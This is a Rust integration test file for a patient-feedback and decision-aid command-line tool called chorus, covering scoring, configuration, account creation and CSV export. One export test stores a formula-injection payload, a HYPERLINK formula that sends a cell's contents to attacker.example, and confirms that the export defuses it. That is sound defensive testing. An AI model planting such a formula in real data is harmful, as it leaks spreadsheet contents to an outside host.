//! The `chorus` binary: offline commands, configuration, and the running server as a process.

use std::process::Command;

use serde_json::{Value, json};

#[allow(dead_code)] // only its command helpers are used here
mod common;

use common::TempDir;

fn chorus() -> Command {
    Command::new(env!("CARGO_BIN_EXE_chorus"))
}

/// `chorus check --today 2026-12-01 <what>` (a built-in aid or a file): its exit and what it
/// printed.
fn check(what: impl AsRef<std::ffi::OsStr>) -> (std::process::ExitStatus, String) {
    let out = chorus()
        .args(["check", "--today", "2026-12-01"])
        .arg(what)
        .output()
        .unwrap();
    (
        out.status,
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

/// `chorus score` gives, line for line, the score reports the core (and so the API, whose
/// test compares it with the core) gives for the shared vectors.
#[test]
fn score_matches_the_core_for_the_vectors() {
    let vectors: Vec<Value> =
        serde_json::from_str(include_str!("../../core/vectors/scoring.json")).unwrap();
    let dir = std::env::temp_dir().join(format!("chorus-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let mut checked = 0;
    let ids: std::collections::BTreeSet<&str> = vectors
        .iter()
        .map(|c| c["instrument"].as_str().unwrap())
        .collect();
    for id in ids {
        let mut lines = Vec::new();
        let mut expected = Vec::new();
        // One file per instrument, each line scored by the version it names (an earlier
        // version's vectors too).
        for (n, c) in vectors.iter().filter(|c| c["instrument"] == id).enumerate() {
            let inst = common::vector_instrument(c);
            let r: chorus_core::Response = serde_json::from_value(json!({
                "instrument": id, "version": inst.version, "idempotency_key": format!("cli-{n:08}"), "answers": c["answers"]}))
            .unwrap();
            if chorus_core::validate_response(&inst, &r).is_err() {
                continue;
            }
            lines.push(serde_json::to_string(&r).unwrap());
            expected.push(serde_json::to_value(chorus_core::score(&inst, &r)).unwrap());
        }
        let got = common::chorus_score(&dir, id, &lines);
        assert_eq!(got, expected, "{id}");
        checked += got.len();
    }
    assert!(checked >= 140, "{checked}");
}

#[test]
fn score_reports_bad_lines_and_keeps_line_numbers() {
    let dir = std::env::temp_dir().join(format!("chorus-cli-bad-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("bad.jsonl");
    let good = r#"{"instrument":"fft","version":1,"idempotency_key":"cli-good-0001","answers":{"fft":"good"}}"#;
    std::fs::write(
        &file,
        format!(
            "{good}\nnot json\n{}\n",
            good.replace("good\"}", "great\"}")
        ),
    )
    .unwrap();
    let out = chorus()
        .args(["score", "--instrument", "fft"])
        .arg(&file)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stdout = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 3);
    assert!(lines[0].contains("positive"));
    assert_eq!((lines[1], lines[2]), ("null", "null"));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("line 2:") && stderr.contains("line 3:"),
        "{stderr}"
    );
}

#[test]
fn unknown_instrument_is_a_clear_error() {
    let out = chorus()
        .args(["score", "--instrument", "nope", "/dev/null"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("neither a built-in instrument"));
}

#[test]
fn the_database_comes_from_the_flag_then_the_environment_then_the_config_file() {
    let dir = TempDir::new("config");
    let config = dir.0.join("chorus.toml");
    std::fs::write(
        &config,
        format!(
            "database = \"sqlite://{}\"\n[[sites]]\nid = \"t\"\norigins = [\"https://www.t.nhs.uk\"]\n",
            dir.0.join("from-file/chorus.db").display()
        ),
    )
    .unwrap();
    let migrate = |env: Option<&str>, flag: Option<&str>| {
        let mut c = chorus();
        c.env_remove("DATABASE_URL")
            .env("CHORUS_CONFIG", &config)
            .arg("migrate");
        if let Some(e) = env {
            c.env(
                "DATABASE_URL",
                format!("sqlite://{}", dir.0.join(e).display()),
            );
        }
        if let Some(f) = flag {
            c.arg("--database")
                .arg(format!("sqlite://{}", dir.0.join(f).display()));
        }
        let out = c.output().unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    migrate(None, None);
    assert!(dir.0.join("from-file/chorus.db").exists());
    migrate(Some("from-env.db"), None);
    assert!(dir.0.join("from-env.db").exists());
    migrate(Some("from-env-2.db"), Some("from-flag.db"));
    assert!(dir.0.join("from-flag.db").exists() && !dir.0.join("from-env-2.db").exists());

    // A mistake in the file stops the server at start-up with the file and the problem named.
    std::fs::write(
        &config,
        "[[sites]]\nid = \"t\"\norigins = [\"www.t.nhs.uk\"]\n",
    )
    .unwrap();
    let out = chorus()
        .env_remove("DATABASE_URL")
        .args(["serve", "--addr", "127.0.0.1:0", "--config"])
        .arg(&config)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("chorus.toml") && err.contains("www.t.nhs.uk"),
        "{err}"
    );
}

// The server as a process under SIGKILL and SIGTERM: see tests/crash.rs.

/// `chorus user add` refuses addresses that are not e-mail addresses and weak passwords, each
/// with a clear message, and stores nothing; a good pair makes the account.
#[test]
fn user_add_checks_the_address_and_the_password() {
    use std::io::Write;
    let dir = TempDir::new("user-add");
    let db = format!("sqlite://{}", dir.0.join("u.db").display());
    let add = |email: &str, password: &str| {
        let mut child = chorus()
            .env_remove("CHORUS_CONFIG")
            .env("RUST_BACKTRACE", "0")
            .env("RUST_LIB_BACKTRACE", "0")
            .args([
                "user",
                "add",
                "--site",
                "demo",
                "--email",
                email,
                "--database",
                &db,
            ])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // The process may refuse the address before reading the password.
        let _ = writeln!(child.stdin.take().unwrap(), "{password}");
        let out = child.wait_with_output().unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    // (One argument may be at most 128 KiB on Linux: the sign-in form's test sends 200,000.)
    let long = format!("{}@trust.nhs.uk", "a".repeat(100_000));
    for (email, password, why) in [
        ("a@b", "a good long passphrase", "not an e-mail address"),
        (
            "ann.trust.nhs.uk",
            "a good long passphrase",
            "not an e-mail address",
        ),
        (
            "ann@trust",
            "a good long passphrase",
            "not an e-mail address",
        ),
        (long.as_str(), "a good long passphrase", "at most 254"),
        ("ann@trust.nhs.uk", "            ", "only spaces"),
        ("ann@trust.nhs.uk", "short", "at least 12"),
        ("ann@trust.nhs.uk", "zzzzzzzzzzzzzzzz", "repeats"),
        ("ann@trust.nhs.uk", "Password12345!", "commonly used"),
        ("ann@trust.nhs.uk", "qwertyuiop123", "commonly used"),
    ] {
        let (ok, out) = add(email, password);
        assert!(!ok, "{email} / {password:?} was accepted");
        assert!(
            out.contains(why),
            "{email} / {password:?}: {}",
            &out[..out.len().min(300)]
        );
        assert!(
            out.len() < 2000,
            "{email:.40} / {password:?}: the input is echoed whole: {:.300}",
            out
        );
    }
    let (ok, out) = add("Ann@Trust.NHS.uk", "a good long passphrase");
    assert!(ok, "{out}");
    assert!(out.contains("(ann@trust.nhs.uk) is admin on demo"), "{out}");
}

/// `chorus export`, the binary an operator runs, defuses a stored service name a spreadsheet
/// would run as a formula (the dashboard's download is checked in `dashboard.rs`); the other
/// cells come out as stored.
#[test]
fn chorus_export_defuses_a_formula_in_a_service_name() {
    let dir = std::env::temp_dir().join(format!("chorus-cli-formula-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let db = format!("sqlite://{}", dir.join("t.db").display());
    let evil = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";
    tokio::runtime::Runtime::new().unwrap().block_on(async {
        let store = chorus_server::store::Store::open(&db).await.unwrap();
        sqlx::query("INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')")
            .bind(evil)
            .execute(store.pool())
            .await
            .unwrap();
        store.pool().close().await;
    });
    let out = common::succeeded(chorus().args(["export", "--database", &db, "--site", "demo"]));
    let mut r = csv::Reader::from_reader(out.stdout.as_slice());
    let header = r.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let cell = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(cell("service"), format!("'{evil}"));
    assert_eq!(cell("site"), "demo");
    assert_eq!(cell("answers"), "{\"fft\":\"good\"}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// `chorus check`: every shipped aid passes with no warning, even with --strict, and prints
/// its self-assessment; a broken aid fails with its problems and lints named by criterion.
#[test]
fn check_reports_problems_and_standards_lints() {
    for id in ["aid-blood-pressure", "aid-knee-pain", "aid-statins"] {
        let out = chorus()
            .args([
                "check",
                "--strict",
                "--self-assessment",
                "--today",
                "2026-12-01",
                id,
            ])
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{id}: {stdout}");
        assert!(stdout.contains("0 error(s), 0 warning(s)"), "{stdout}");
        assert!(
            stdout.contains("# Self-assessment: ") && stdout.contains("needs a person's sign-off"),
            "{stdout}"
        );
        assert!(!stdout.contains("NOT MET"), "{stdout}");
    }
    let dir = TempDir::new("check");
    let mut aid: Value =
        serde_json::from_str(include_str!("../../core/instruments/aid-statins.json")).unwrap();
    // A definition error: mixed denominators across options.
    aid["items"][2]["outcome"]["rates"][1]["per"] = json!(1000);
    let broken = dir.0.join("broken.json");
    std::fs::write(&broken, aid.to_string()).unwrap();
    let (status, stdout) = check(&broken);
    assert_eq!(status.code(), Some(1), "{stdout}");
    assert!(
        stdout.contains("error   $.items[2].outcome.rates[1].per  mixed_denominators"),
        "{stdout}"
    );
    // Lints only: warnings pass, --strict fails; each names its criterion.
    aid["items"][2]["outcome"]["rates"][1]["per"] = json!(100);
    aid["options"][1]["watchful_waiting"] = json!(false);
    aid["about"]["next_review"] = json!("2026-11-30");
    std::fs::write(&broken, aid.to_string()).unwrap();
    let (status, stdout) = check(&broken);
    assert!(status.success(), "{stdout}");
    assert!(
        stdout.contains("warning $.options  no_waiting_option [IPDAS qualifying: Lists the options, including doing nothing or watchful waiting]"),
        "{stdout}"
    );
    assert!(stdout.contains("past_review [NICE NG197:"), "{stdout}");
    assert!(stdout.contains("0 error(s), 2 warning(s)"), "{stdout}");
    let strict = chorus()
        .args(["check", "--strict", "--today", "2026-12-01"])
        .arg(&broken)
        .output()
        .unwrap();
    assert_eq!(strict.status.code(), Some(1));
    // Bad input: a clear error.
    let out = chorus()
        .args(["check", "--today", "2026-13-01", "aid-statins"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a date"));
    let out = chorus()
        .args(["check", "/nonexistent/aid.json"])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("neither a built-in instrument"));
}
